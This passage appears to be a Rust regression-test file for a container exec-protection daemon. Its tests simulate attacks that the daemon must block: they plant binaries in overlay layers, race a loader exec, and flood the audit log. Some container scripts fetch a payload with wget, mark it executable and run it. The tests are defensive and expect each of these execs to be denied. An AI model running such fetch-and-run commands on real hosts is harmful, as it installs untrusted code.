//! Regression tests named after the issue they fix.

use std::fs;
use std::path::Path;
use std::process::{Command, Stdio};

use crate::support::{Sandbox, figure, root_or_skip};

/// Mounts an overlay of `lowers` (uppermost first) with `upper` and `work` at `target`.
fn mount_overlay(lowers: &[&Path], upper: &Path, work: &Path, target: &Path) {
    let lower: Vec<String> = lowers.iter().map(|l| l.display().to_string()).collect();
    let opts = format!(
        "lowerdir={},upperdir={},workdir={}",
        lower.join(":"),
        upper.display(),
        work.display()
    );
    assert!(
        Command::new("mount")
            .args(["-t", "overlay", "overlay", "-o", &opts])
            .arg(target)
            .status()
            .unwrap()
            .success(),
        "mount overlay at {}",
        target.display()
    );
}

/// Copies host programs and every library they load (and the loader) into `root`, at the
/// same paths, so that `chroot root PROG` runs them: a small dynamically linked image.
fn install_dynamic(root: &Path, progs: &[&str]) {
    let mut files: Vec<String> = progs.iter().map(|p| p.to_string()).collect();
    for p in progs {
        let out = Command::new("ldd").arg(p).output().unwrap();
        for line in String::from_utf8_lossy(&out.stdout).lines() {
            // "libc.so.6 => /lib/x86_64-linux-gnu/libc.so.6 (0x...)" or "/lib64/ld-linux... (0x...)"
            if let Some(path) = line
                .split_whitespace()
                .find(|w| w.starts_with('/'))
                .map(str::to_string)
            {
                files.push(path);
            }
        }
    }
    for f in files {
        let real = fs::canonicalize(&f).unwrap();
        for p in [Path::new(&f), real.as_path()] {
            let dst = root.join(p.strip_prefix("/").unwrap());
            // Symlinked directories on the host (usrmerge's /lib64 -> usr/lib64) become
            // real directories here; the file is copied at both its names.
            fs::create_dir_all(dst.parent().unwrap()).unwrap();
            if !dst.exists() {
                fs::copy(&real, &dst).unwrap();
            }
        }
    }
}

/// Issue 12: shell pipelines in a dynamically linked image were denied at random
/// (`loader-unverified` on the loader): with two execs in flight the daemon read
/// `/proc/<tid>/syscall` of a thread that had queued its event but was not asleep (or had
/// just been woken by the answer to the other exec), saw `running`, and denied. Before the
/// fix this test failed in every run (3 to 30 of 600 pipelines denied, both cores busy).
#[test]
fn issue_12_pipelines_in_a_dynamic_image_are_never_denied_under_load() {
    if !root_or_skip("issue 12 pipelines") {
        return;
    }
    let mut sb = Sandbox::new("issue12");
    // Into the image layer: what the container's writable layer holds at arm time is never
    // baselined (issue 14).
    install_dynamic(
        &sb.dir.join("lower"),
        &[
            "/usr/bin/bash",
            "/usr/bin/echo",
            "/usr/bin/cat",
            "/usr/bin/tr",
        ],
    );
    sb.start_daemon(&[]);
    sb.arm("pipes", &[]);
    // Both cores busy, as on a loaded node: a spinner outside the sandbox's marks.
    let spinners: Vec<_> = (0..2)
        .map(|_| {
            Command::new("sh")
                .args(["-c", "while :; do :; done"])
                .spawn()
                .unwrap()
        })
        .collect();
    let script = r#"f=0; for ((i = 0; i < 300; i++)); do /usr/bin/echo x | /usr/bin/cat | /usr/bin/tr x y >/tmp/out.$$ || f=$((f+1)); done; echo "failed $f""#;
    let loops: Vec<_> = (0..2)
        .map(|_| {
            Command::new("chroot")
                .arg(&sb.rootfs)
                .args(["/usr/bin/bash", "-o", "pipefail", "-c", script])
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .unwrap()
        })
        .collect();
    let outs: Vec<_> = loops
        .into_iter()
        .map(|c| c.wait_with_output().unwrap())
        .collect();
    for mut s in spinners {
        let _ = s.kill();
        let _ = s.wait();
    }
    let status = sb.status_json();
    let recs = sb.records(0);
    let denied: Vec<_> = recs.iter().filter(|r| r["verdict"] == "deny").collect();
    for o in &outs {
        let t = format!(
            "{}{}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        );
        assert!(
            t.contains("failed 0") && denied.is_empty(),
            "image programs denied: {t}\nrecords: {denied:?}\nstats: {}",
            status["stats"]
        );
    }
    assert!(
        status["stats"]["loader_checks"].as_u64().unwrap() >= 1800,
        "every pipeline stage is a loader exec: {}",
        status["stats"]
    );
    figure(&format!(
        "issue 12 regression: 600 pipelines of 3 dynamic programs, both cores busy: 0 denied; loader checks {}, looks at a thread not yet blocked {}, checks that waited {}, longest wait {} us",
        status["stats"]["loader_checks"],
        status["stats"]["loader_not_blocked_looks"],
        status["stats"]["loader_waits"],
        status["stats"]["loader_wait_max_us"]
    ));
}

/// Issue 13: a busy reply (every client slot taken, as in a burst of container creations)
/// made the hook fail container creation. Now the daemon says `busy` with a code and the
/// hook asks again with backoff: it waits, then arms.
#[test]
fn issue_13_a_busy_daemon_makes_the_hook_wait_and_succeed() {
    use std::io::Write;
    use std::os::unix::net::UnixStream;
    use std::time::{Duration, Instant};
    if !root_or_skip("issue 13 busy hook") {
        return;
    }
    let mut sb = Sandbox::new("issue13busy");
    sb.start_daemon(&[]);
    // A process whose root is ours plays runc init; the bundle's root.path is the rootfs.
    let mut init = Command::new("sleep").arg("60").spawn().unwrap();
    let bundle = sb.dir.join("bundle");
    fs::create_dir_all(&bundle).unwrap();
    fs::write(
        bundle.join("config.json"),
        format!(
            r#"{{"ociVersion":"1.0.2","root":{{"path":"{}"}}}}"#,
            sb.rootfs.display()
        ),
    )
    .unwrap();
    let state = format!(
        r#"{{"ociVersion":"1.0.2","id":"busy-1","status":"creating","pid":{},"bundle":"{}"}}"#,
        init.id(),
        bundle.display()
    );
    // Take every client slot with connections that send nothing.
    let mut hogs: Vec<UnixStream> = Vec::new();
    let until = Instant::now() + Duration::from_secs(5);
    while hogs.len() < 64 && Instant::now() < until {
        hogs.push(UnixStream::connect(&sb.socket).unwrap());
    }
    // Wait until the daemon really is saturated: a status request is refused as busy.
    // (The CLI itself now waits out a busy daemon, so ask on a raw connection: a saturated
    // daemon answers `busy` before reading anything.)
    let mut saw_busy = false;
    for _ in 0..100 {
        let mut probe = UnixStream::connect(&sb.socket).unwrap();
        probe
            .set_read_timeout(Some(Duration::from_millis(200)))
            .unwrap();
        let mut said = String::new();
        let _ = std::io::Read::read_to_string(&mut probe, &mut said);
        if said.contains("\"code\":\"busy\"") {
            saw_busy = true;
            break;
        }
        hogs.push(probe);
    }
    assert!(saw_busy, "the daemon never said it was busy");
    let started = Instant::now();
    let mut hook = Command::new(crate::support::BIN)
        .args(["hook", "createRuntime", "--socket"])
        .arg(&sb.socket)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    hook.stdin
        .take()
        .unwrap()
        .write_all(state.as_bytes())
        .unwrap();
    // The slots free up a second later (clients finish).
    std::thread::sleep(Duration::from_secs(1));
    drop(hogs);
    let out = hook.wait_with_output().unwrap();
    // Read while the container's init still runs, as a running container would be.
    let status = sb.status_json();
    let _ = init.kill();
    let _ = init.wait();
    assert!(
        out.status.success(),
        "the hook must wait for a busy daemon, not fail: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(started.elapsed() >= Duration::from_millis(900));
    assert!(
        status["units"]
            .as_array()
            .unwrap()
            .iter()
            .any(|u| u["id"] == "busy-1"),
        "armed after waiting: {status}"
    );
    figure(&format!(
        "issue 13 busy daemon: hook armed after waiting {:?} for a client slot",
        started.elapsed()
    ));
}

/// Issue 14 (2): an overlay whose upper layer is on a tmpfs and whose lower layer is on
/// another filesystem (no `xino`) gives each layer's files a device number of its own.
/// Before the fix a new binary written into the rootfs ran (its device was no unit's:
/// allowed unattributed) and a copy of an image binary was denied (the snapshot had
/// dropped every lower-layer file). Now such files are attributed by their mount and kept
/// in the baseline, and an exec no unit claims is refused.
#[test]
fn issue_14_overlay_layers_on_different_filesystems_are_judged_by_content() {
    use crate::support::{EPERM, exec};
    if !root_or_skip("issue 14 overlay layers") {
        return;
    }
    let mut sb = Sandbox::new("issue14ovl");
    // The lower layer on the machine's disk (only read), upper and work on the sandbox's
    // tmpfs; the marks go on this test's own overlay and tmpfs only.
    let lower = std::path::PathBuf::from(format!(
        "/var/tmp/driftlock-issue14-lower-{}",
        std::process::id()
    ));
    let _ = fs::remove_dir_all(&lower);
    // Removed however the test ends (a panic included): it is on the machine's disk.
    struct RemoveDir(std::path::PathBuf);
    impl Drop for RemoveDir {
        fn drop(&mut self) {
            let _ = fs::remove_dir_all(&self.0);
        }
    }
    let _cleanup = RemoveDir(lower.clone());
    fs::create_dir_all(lower.join("bin")).unwrap();
    fs::create_dir_all(lower.join("tmp")).unwrap();
    sb.install("/usr/bin/true", &lower.join("bin/true"));
    sb.install("/usr/bin/cat", &lower.join("bin/cat"));
    let (upper, work, merged) = (
        sb.dir.join("l-upper"),
        sb.dir.join("l-work"),
        sb.dir.join("l-merged"),
    );
    for d in [&upper, &work, &merged] {
        fs::create_dir_all(d).unwrap();
    }
    mount_overlay(&[&lower], &upper, &work, &merged);
    let tmp = merged.join("tmp");
    assert!(
        Command::new("mount")
            .args(["-t", "tmpfs", "tmpfs"])
            .arg(&tmp)
            .status()
            .unwrap()
            .success()
    );
    let dev = |p: &std::path::Path| std::os::unix::fs::MetadataExt::dev(&fs::metadata(p).unwrap());
    assert_ne!(
        dev(&merged),
        dev(&merged.join("bin/true")),
        "this kernel gives lower-layer files a device of their own (the case under test)"
    );
    sb.start_daemon(&[]);
    let out = sb.client(&[
        "arm",
        "--id",
        "layers",
        "--rootfs",
        merged.to_str().unwrap(),
        "--mount",
        tmp.to_str().unwrap(),
    ]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    // Image programs from the lower layer run, and a copy of one elsewhere is the same
    // program.
    assert_eq!(exec(&merged.join("bin/true")), Ok(0));
    sb.install(
        merged.join("bin/true").to_str().unwrap(),
        &tmp.join("true-copy"),
    );
    assert_eq!(
        exec(&tmp.join("true-copy")),
        Ok(0),
        "a copy of an image binary"
    );
    // A new binary in the rootfs (upper layer, its own device number) is not.
    sb.install("/usr/bin/id", &merged.join("bin/new"));
    assert_ne!(dev(&merged), dev(&merged.join("bin/new")));
    assert_eq!(
        exec(&merged.join("bin/new")),
        EPERM,
        "a dropped binary in the rootfs"
    );
    // A modified image binary (copied up) is not either.
    fs::write(merged.join("bin/cat"), fs::read("/usr/bin/id").unwrap()).unwrap();
    assert_eq!(
        exec(&merged.join("bin/cat")),
        EPERM,
        "a modified image binary"
    );
    let stats = sb.status_json()["stats"].clone();
    assert!(stats["layer_devices"].as_u64().unwrap() >= 1, "{stats}");
    let recs = sb.records(2);
    assert!(
        recs.iter().all(|r| r["unit"] == "layers"),
        "denials are attributed to the unit: {recs:?}"
    );
    sb.kill_daemon();
    let _ = Command::new("umount").arg(&tmp).status();
    let _ = Command::new("umount").arg(&merged).status();
}

/// Issue 14 (4): sparse executables (`truncate -s 8E`) kept hashing workers reading
/// zeros for their whole budget, node-wide. A file larger than every executable of the
/// image cannot be in its baseline: it is denied without reading a byte, and its record
/// says so.
#[test]
fn issue_14_huge_sparse_executables_are_denied_without_hashing() {
    use crate::support::{EPERM, exec};
    use std::time::{Duration, Instant};
    if !root_or_skip("issue 14 sparse files") {
        return;
    }
    let mut sb = Sandbox::new("issue14sparse");
    sb.start_daemon(&[]);
    sb.arm("sparse", &[]);
    let files: Vec<_> = (0..64)
        .map(|i| {
            let p = sb.tmp.join(format!("miner-{i}"));
            let f = fs::File::create(&p).unwrap();
            // The largest size a file may have (8 EiB): all of it a hole.
            f.set_len(i64::MAX as u64).unwrap();
            drop(f);
            sb.install_mode(&p);
            p
        })
        .collect();
    let before = sb.status_json()["stats"].clone();
    let started = Instant::now();
    let slowest = std::thread::scope(|s| {
        let runs: Vec<_> = files
            .iter()
            .map(|p| {
                s.spawn(move || {
                    let t = Instant::now();
                    (exec(p), t.elapsed())
                })
            })
            .collect();
        runs.into_iter()
            .map(|r| r.join().unwrap())
            .map(|(result, took)| {
                assert_eq!(result, EPERM);
                took
            })
            .max()
            .unwrap()
    });
    let all = started.elapsed();
    // Image programs (a miss: a fresh copy) are judged at once meanwhile and after.
    let copy = sb.tmp.join("true-copy");
    sb.install(sb.rootfs.join("bin/true").to_str().unwrap(), &copy);
    assert_eq!(exec(&copy), Ok(0));
    let after = sb.status_json()["stats"].clone();
    let n = |v: &serde_json::Value, k: &str| v[k].as_u64().unwrap_or(0);
    assert_eq!(
        n(&after, "denied_unhashed") - n(&before, "denied_unhashed"),
        64
    );
    assert!(
        n(&after, "hashed_bytes") - n(&before, "hashed_bytes") < 1 << 20,
        "the sparse files were read: {after}"
    );
    assert!(
        slowest < Duration::from_secs(1),
        "a denial without hashing took {slowest:?}"
    );
    let recs = sb.records(64);
    let r = recs
        .iter()
        .find(|r| r["path"].as_str().is_some_and(|p| p.contains("miner-")))
        .unwrap();
    assert_eq!(r["reason"], "not-in-baseline");
    assert_eq!(r["size"], i64::MAX);
    assert!(
        r["detail"]
            .as_str()
            .unwrap()
            .contains("judged without hashing"),
        "{r}"
    );
    figure(&format!(
        "issue 14 sparse files: 64 × 8 EiB sparse executables denied without hashing in {all:?} (slowest {slowest:?})"
    ));
}

/// Issue 14 (1): a restarted daemon never baselines what a running container wrote. The
/// attacker writes a payload into the container's writable layer (not a tmpfs), waits for
/// the daemon to restart (here with an indicator list, which changes the store key, and
/// then with its stored baselines gone), and runs it. Before the fix the re-arm appended the
/// indicator suffix a second time, found no baseline and snapshotted the live rootfs:
/// `/var/tmp/k` then ran (exit 0).
#[test]
fn issue_14_a_restart_never_baselines_the_containers_writable_layer() {
    use crate::node::{BUSYBOX, Node, text};
    let Some(mut node) = Node::new("rearm-live") else {
        return;
    };
    node.run_detached(BUSYBOX, "live-1");
    let mut n = 0;
    let mut exec = |node: &Node, script: &str| {
        n += 1;
        text(&node.ctr(&[
            "tasks",
            "exec",
            "--exec-id",
            &format!("e{n}"),
            "live-1",
            "sh",
            "-c",
            script,
        ]))
    };
    let plant = format!(
        "mkdir -p /var/tmp && wget -q -O /var/tmp/k {url} && chmod +x /var/tmp/k && \
         cp /var/tmp/k /bin/k2 && /var/tmp/k >/dev/null 2>&1; echo k=$?; /bin/k2 >/dev/null 2>&1; echo k2=$?",
        url = node.payload_url()
    );
    let t = exec(&node, &plant);
    assert!(t.contains("k=126") && t.contains("k2=126"), "{t}");

    let indicators = node.dir.join("indicators.txt");
    fs::write(
        &indicators,
        "0000000000000000000000000000000000000000000000000000000000000001 test-indicator\n",
    )
    .unwrap();
    let run_all = format!(
        "/var/tmp/k >/dev/null 2>&1; echo k=$?; /bin/k2 >/dev/null 2>&1; echo k2=$?; \
         wget -q -O /tmp/p {url} && chmod +x /tmp/p; /tmp/p >/dev/null 2>&1; echo p=$?; \
         ls / >/dev/null; echo ls=$?",
        url = node.payload_url()
    );
    // Restart 1: SIGKILL, then a daemon with an indicator list (a new store key).
    node.kill_daemon();
    node.set_daemon_args(&["--indicators", indicators.to_str().unwrap()]);
    node.start_daemon();
    let t = exec(&node, &run_all);
    assert!(
        t.contains("k=126") && t.contains("k2=126") && t.contains("p=126") && t.contains("ls=0"),
        "after a restart with --indicators: {t}"
    );
    // Restart 2: every stored baseline gone; the image's layers are snapshotted again.
    node.kill_daemon();
    for e in fs::read_dir(node.dl_state.join("baselines"))
        .unwrap()
        .flatten()
    {
        fs::remove_file(e.path()).unwrap();
    }
    node.start_daemon();
    let status = node.status();
    assert_eq!(status["units"][0]["id"], "live-1", "{status}");
    let t = exec(&node, &run_all);
    assert!(
        t.contains("k=126") && t.contains("k2=126") && t.contains("p=126") && t.contains("ls=0"),
        "after a restart without stored baselines: {t}"
    );
    let _ = node.ctr(&["tasks", "kill", "-s", "SIGKILL", "live-1"]);
}

/// Issue 14 (1): an overlay rootfs is baselined through its image layers alone. The
/// container's writable layer already holds a planted program when the unit is armed (a
/// container restarted, or re-armed, after writing into its rootfs); it is not in the
/// baseline, while programs of both image layers are, and a whiteout hides what it hides.
/// Before the fix the merged view was snapshotted and the planted program ran.
#[test]
fn issue_14_an_overlay_is_baselined_from_its_image_layers_only() {
    use crate::support::{EPERM, exec};
    if !root_or_skip("issue 14 image layers only") {
        return;
    }
    let mut sb = Sandbox::new("issue14lower");
    let d = |n: &str| sb.dir.join(n);
    let (l1, l2, upper, work, merged) = (d("L1"), d("L2"), d("U"), d("W"), d("M"));
    for p in [&l1, &l2, &upper, &work, &merged] {
        fs::create_dir_all(p.join("bin")).unwrap();
    }
    sb.install("/usr/bin/true", &l1.join("bin/true"));
    sb.install("/usr/bin/cat", &l1.join("bin/cat"));
    sb.install("/usr/bin/id", &l2.join("bin/id"));
    // A whiteout in the upper image layer deletes bin/cat of the lower one.
    assert!(
        Command::new("mknod")
            .arg(l2.join("bin/cat"))
            .args(["c", "0", "0"])
            .status()
            .unwrap()
            .success()
    );
    // What the container wrote before this arm: a program of its own, and a changed image
    // program (copied up).
    sb.install("/usr/bin/env", &upper.join("bin/planted"));
    sb.install("/usr/bin/env", &upper.join("bin/true"));
    mount_overlay(&[&l2, &l1], &upper, &work, &merged);
    sb.start_daemon(&[]);
    let out = sb.client(&["arm", "--id", "lower", "--rootfs", merged.to_str().unwrap()]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(exec(&merged.join("bin/id")), Ok(0), "upper image layer");
    assert!(!merged.join("bin/cat").exists(), "whited out");
    assert_eq!(
        exec(&merged.join("bin/planted")),
        EPERM,
        "planted before the arm"
    );
    assert_eq!(
        exec(&merged.join("bin/true")),
        EPERM,
        "an image program the container changed before the arm"
    );
    // The image's own `true` is still allowed wherever it is.
    sb.install(
        l1.join("bin/true").to_str().unwrap(),
        &merged.join("bin/true2"),
    );
    assert_eq!(exec(&merged.join("bin/true2")), Ok(0), "the image's true");
    sb.kill_daemon();
    let _ = Command::new("umount").arg(&merged).status();
}

/// Issue 14 (3): a container's root can make a re-arm fail (here by renaming, in a loop,
/// the parent directory of one of its mounts while the restarted daemon resolves them).
/// Before the fix the record was deleted on the first failure and the container ran
/// unprotected for the rest of its life. Now the unit is kept, shown as pending in
/// `status`, and retried until armed.
#[test]
fn issue_14_a_failed_rearm_is_kept_and_retried() {
    use crate::node::{BUSYBOX, Node, text, wait_for};
    use std::time::Duration;
    let Some(mut node) = Node::new("rearm-retry") else {
        return;
    };
    node.run_detached_with(
        BUSYBOX,
        "race-1",
        &["--mount", "type=tmpfs,src=tmpfs,dst=/a/m,options=nosuid"],
    );
    let exec = |node: &Node, n: &str, detach: bool, script: &str| {
        let mut args = vec!["tasks", "exec"];
        if detach {
            args.push("-d");
        }
        args.extend_from_slice(&["--exec-id", n, "race-1", "sh", "-c", script]);
        text(&node.ctr(&args))
    };
    let fetch = format!(
        "wget -q -O /tmp/p {} && chmod +x /tmp/p; /tmp/p >/dev/null 2>&1; echo rc=$?",
        node.payload_url()
    );
    assert!(exec(&node, "f1", false, &fetch).contains("rc=126"));
    exec(
        &node,
        "racer",
        true,
        "while [ ! -e /stop ]; do mv /a /b; mv /b /a; done",
    );
    // Restart until a re-arm loses the race (each does with even odds).
    let mut lost = false;
    for _ in 0..12 {
        node.kill_daemon();
        node.start_daemon();
        let status = node.status();
        if status["units"].as_array().is_some_and(Vec::is_empty) {
            lost = true;
            let pending = &status["rearm_pending"];
            assert_eq!(pending[0]["id"], "race-1", "kept and shown: {status}");
            break;
        }
    }
    assert!(lost, "no re-arm lost the race in 12 restarts");
    exec(&node, "stop", false, "touch /stop");
    wait_for("the retried re-arm", Duration::from_secs(30), || {
        node.status()["units"]
            .as_array()
            .is_some_and(|u| u.iter().any(|u| u["id"] == "race-1"))
    });
    let status = node.status();
    assert!(
        status["rearm_pending"].as_array().is_none_or(Vec::is_empty),
        "{status}"
    );
    let t = exec(&node, "f2", false, "/tmp/p >/dev/null 2>&1; echo rc=$?");
    assert!(t.contains("rc=126"), "protected again: {t}");
    let _ = node.ctr(&["tasks", "kill", "-s", "SIGKILL", "race-1"]);
}

/// Issue 14 (9): a burst of container creations (a Deployment scaled up on one node).
/// Before the fix 0-23 of 100 concurrent creations failed: the hook took the daemon's
/// `busy` (over 64 connections) as a refusal, and concurrent arms of one image raced in
/// the baseline store. Now `DRIFTLOCK_BURST` (default 200) runc containers, over three
/// images each on its own overlay, are created at once through driftlock-runtime: every
/// one is armed, and each image is snapshotted exactly once.
#[test]
fn issue_14_a_burst_of_creations_is_all_armed_with_one_snapshot_per_image() {
    use crate::node::{Node, RUNTIME, images, text};
    use crate::support::BIN;
    use std::time::{Duration, Instant};
    let Some(node) = Node::new("burst") else {
        return;
    };
    let n: usize = std::env::var("DRIFTLOCK_BURST")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(200);
    // One unpacked image per tar; each container gets an overlay on top of one of them.
    let tars = ["busybox.tar", "musl.tar", "glibc.tar"];
    let mut lowers = Vec::new();
    for (i, tar) in tars.iter().enumerate() {
        let layout = node.dir.join(format!("layout{i}"));
        let bundle = node.dir.join(format!("image{i}"));
        fs::create_dir_all(&layout).unwrap();
        assert!(
            Command::new("tar")
                .arg("-C")
                .arg(&layout)
                .arg("-xf")
                .arg(images().unwrap().join(tar))
                .status()
                .unwrap()
                .success()
        );
        let out = Command::new("umoci")
            .args(["unpack", "--image"])
            .arg(format!("{}:latest", layout.display()))
            .arg(&bundle)
            .output()
            .unwrap();
        assert!(out.status.success(), "{}", text(&out));
        let mut config: serde_json::Value =
            serde_json::from_slice(&fs::read(bundle.join("config.json")).unwrap()).unwrap();
        config["process"]["terminal"] = false.into();
        config["process"]["args"] = serde_json::json!(["sleep", "600"]);
        lowers.push((bundle.join("rootfs"), config));
    }
    let state = node.dir.join("runc-burst");
    let mut bundles = Vec::new();
    for i in 0..n {
        let (lower, config) = &lowers[i % lowers.len()];
        let b = node.dir.join(format!("b{i}"));
        for d in ["upper", "work", "rootfs"] {
            fs::create_dir_all(b.join(d)).unwrap();
        }
        mount_overlay(
            &[lower],
            &b.join("upper"),
            &b.join("work"),
            &b.join("rootfs"),
        );
        let mut config = config.clone();
        config["root"]["path"] = "rootfs".into();
        fs::write(b.join("config.json"), serde_json::to_vec(&config).unwrap()).unwrap();
        bundles.push(b);
    }
    let baselines_before = fs::read_dir(node.dl_state.join("baselines"))
        .map(|d| d.count())
        .unwrap_or(0);
    let created: Vec<(bool, Duration, String)> = std::thread::scope(|s| {
        let handles: Vec<_> = bundles
            .iter()
            .enumerate()
            .map(|(i, b)| {
                let (state, node) = (&state, &node);
                s.spawn(move || {
                    // A file, not a pipe: the container's init keeps runc's stdio open.
                    let err_path = node.dir.join(format!("b{i}/create.err"));
                    let err = fs::File::create(&err_path).unwrap();
                    let t0 = Instant::now();
                    let status = Command::new(RUNTIME)
                        .arg("--root")
                        .arg(state)
                        .args(["create", "--bundle"])
                        .arg(b)
                        .arg(format!("burst-{i}"))
                        .env("DRIFTLOCK_SOCKET", &node.dl_socket)
                        .env("DRIFTLOCK_BIN", BIN)
                        .stdin(Stdio::null())
                        .stdout(Stdio::null())
                        .stderr(err)
                        .status()
                        .unwrap();
                    let elapsed = t0.elapsed();
                    (
                        status.success(),
                        elapsed,
                        fs::read_to_string(&err_path).unwrap_or_default(),
                    )
                })
            })
            .collect();
        handles.into_iter().map(|h| h.join().unwrap()).collect()
    });
    let failed: Vec<&String> = created.iter().filter(|c| !c.0).map(|c| &c.2).collect();
    let units = node.status()["units"].as_array().map_or(0, Vec::len);
    let baselines = fs::read_dir(node.dl_state.join("baselines"))
        .unwrap()
        .flatten()
        .filter(|e| e.path().extension().is_some_and(|x| x == "baseline"))
        .count();
    let mut times: Vec<Duration> = created.iter().map(|c| c.1).collect();
    times.sort();
    crate::support::figure(&format!(
        "burst: {n} runc creations at once over {} images: {} failed, median {:?}, max {:?}; {} baselines stored",
        lowers.len(),
        failed.len(),
        times[times.len() / 2],
        times[times.len() - 1],
        baselines - baselines_before
    ));
    for i in 0..n {
        let _ = Command::new(RUNTIME)
            .arg("--root")
            .arg(&state)
            .args(["delete", "-f"])
            .arg(format!("burst-{i}"))
            .env("DRIFTLOCK_SOCKET", &node.dl_socket)
            .env("DRIFTLOCK_BIN", BIN)
            .output();
    }
    for b in &bundles {
        let _ = Command::new("umount").arg(b.join("rootfs")).status();
    }
    assert!(
        failed.is_empty(),
        "{} creations failed: {:?}",
        failed.len(),
        &failed[..failed.len().min(3)]
    );
    assert_eq!(units, n, "every container armed");
    assert_eq!(
        baselines - baselines_before,
        lowers.len(),
        "one snapshot per image"
    );
}

/// Issue 14 (5): records as an event-loop stall and a memory bomb. Nine nested shells,
/// each with about 1 MB of arguments, loop denied execs of a payload (cached denials, as
/// fast as the shell forks). Before the fix every denial built its record on the event
/// loop while the exec was held and queued it whatever its size: the log grew by one
/// multi-kilobyte record per attempt. Now a denial is answered before its context is read,
/// every record fits 64 KiB, the queue is bounded in bytes and each unit has a record
/// budget whose overflow is counted and summarized. Meanwhile image programs of the unit
/// run without waiting behind the flood.
#[test]
fn issue_14_a_record_flood_is_bounded_and_does_not_stall_other_execs() {
    use std::time::{Duration, Instant};
    if !root_or_skip("issue 14 record flood") {
        return;
    }
    let mut sb = Sandbox::new("issue14bomb");
    let payload = sb.install_payload();
    sb.start_daemon(&[]);
    sb.arm("bomb", &[]);
    let nest = sb.dir.join("nest.sh");
    fs::write(
        &nest,
        "n=$1; shift\nif [ \"$n\" -gt 0 ]; then /bin/bash \"$0\" $((n-1)) \"$@\"; exit; fi\n\
         for ((i = 0; i < LOOPS; i++)); do \"$P\" 2>/dev/null; done\n"
            .replace("LOOPS", "4000"),
    )
    .unwrap();
    let big = "x".repeat(120_000);
    let flood_started = Instant::now();
    let floods: Vec<_> = (0..2)
        .map(|_| {
            Command::new("/bin/bash")
                .arg(&nest)
                .arg("8")
                .args(std::iter::repeat_n(&big, 8))
                .env("P", &payload)
                .stdout(Stdio::null())
                .stderr(Stdio::null())
                .spawn()
                .unwrap()
        })
        .collect();
    // Image programs exec'd meanwhile: their answers must not wait behind the flood.
    let image_true = sb.rootfs.join("bin/true");
    let mut waits = Vec::new();
    while waits.len() < 300 {
        let t0 = Instant::now();
        let st = Command::new(&image_true).status().unwrap();
        assert!(st.success(), "an image program was denied during the flood");
        waits.push(t0.elapsed());
    }
    for mut f in floods {
        f.wait().unwrap();
    }
    let flood = flood_started.elapsed();
    waits.sort();
    let status_path = format!("/proc/{}/status", sb.daemon_pid());
    let hwm_kib: u64 = fs::read_to_string(&status_path)
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix("VmHWM:"))
        .and_then(|v| v.split_whitespace().next()?.parse().ok())
        .unwrap();
    let status = sb.status_json();
    let denied = status["stats"]["denied_by_reason"]["not-in-baseline"]
        .as_u64()
        .unwrap_or(0);
    let suppressed = status["stats"]["records_suppressed"].as_u64().unwrap_or(0);
    // The summary follows once the budget has room again.
    let until = Instant::now() + Duration::from_secs(5);
    let (lines, longest, summaries) = loop {
        let text = fs::read_to_string(&sb.audit).unwrap_or_default();
        let lines = text.lines().count();
        let longest = text.lines().map(str::len).max().unwrap_or(0);
        let summaries: u64 = text
            .lines()
            .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
            .filter(|v| v["kind"] == "suppressed")
            .filter_map(|v| v["records"].as_u64())
            .sum();
        if summaries >= suppressed || Instant::now() > until {
            break (lines, longest, summaries);
        }
        std::thread::sleep(Duration::from_millis(100));
    };
    figure(&format!(
        "record flood: {denied} denials in {flood:?} from 9 nested shells x 1 MB of arguments (x2): \
         {lines} audit lines (longest {longest} B), {suppressed} records suppressed and summarized; \
         daemon peak RSS {} MiB; image execs meanwhile median {:?}, max {:?}",
        hwm_kib / 1024,
        waits[waits.len() / 2],
        waits[waits.len() - 1]
    ));
    assert!(denied >= 4000, "the flood ran: {denied}");
    assert!(
        suppressed > 0 && summaries == suppressed,
        "{suppressed} vs {summaries}"
    );
    assert!(longest <= 64 * 1024, "a record of {longest} bytes");
    assert!(
        (lines as u64) < denied / 4,
        "{lines} lines for {denied} denials: the budget holds a flood back"
    );
    assert!(hwm_kib < 128 * 1024, "daemon peak RSS {hwm_kib} KiB");
}

/// Issue 14 (6): the direct-loader check re-read the exec name from the task's memory,
/// which another thread of the process can rewrite while the exec is held. A racer flips
/// the name between the loader and an image program while its main thread runs
/// `ld.so PAYLOAD`. Before the fix the payload ran in some attempts (the check read the
/// image program's name and took the loader for its interpreter); now who opens the loader
/// is read from the kernel's stack of the blocked thread, which no thread can rewrite.
#[test]
fn issue_14_a_racing_thread_cannot_pass_a_direct_loader_call_off_as_a_program() {
    if !root_or_skip("issue 14 loader race") {
        return;
    }
    let mut sb = Sandbox::new("issue14race");
    install_dynamic(&sb.dir.join("lower"), &["/usr/bin/cat"]);
    let racer = sb.dir.join("loader-race");
    let cc = Command::new("cc")
        .args(["-O1", "-pthread", "-o"])
        .arg(&racer)
        .arg(concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/testdata/loader-race.c"
        ))
        .output()
        .unwrap();
    assert!(
        cc.status.success(),
        "{}",
        String::from_utf8_lossy(&cc.stderr)
    );
    let payload = sb.install_payload();
    sb.start_daemon(&[]);
    sb.arm("race", &[]);
    let loader = sb.rootfs.join("lib64/ld-linux-x86-64.so.2");
    assert!(loader.exists(), "the image has its loader");
    // The loader does run image programs (the check does not simply deny it).
    let ok = Command::new("chroot")
        .arg(&sb.rootfs)
        .args(["/usr/bin/cat", "/bin/data.txt"])
        .output()
        .unwrap();
    assert!(
        ok.status.success(),
        "{}",
        String::from_utf8_lossy(&ok.stderr)
    );
    let attempts = 300;
    let out = Command::new(&racer)
        .arg(&loader)
        .arg(sb.rootfs.join("usr/bin/cat"))
        .arg(&payload)
        .arg(attempts.to_string())
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let t = String::from_utf8_lossy(&out.stdout).to_string();
    let status = sb.status_json();
    let direct = status["stats"]["denied_by_reason"]["direct-loader"]
        .as_u64()
        .unwrap_or(0);
    figure(&format!(
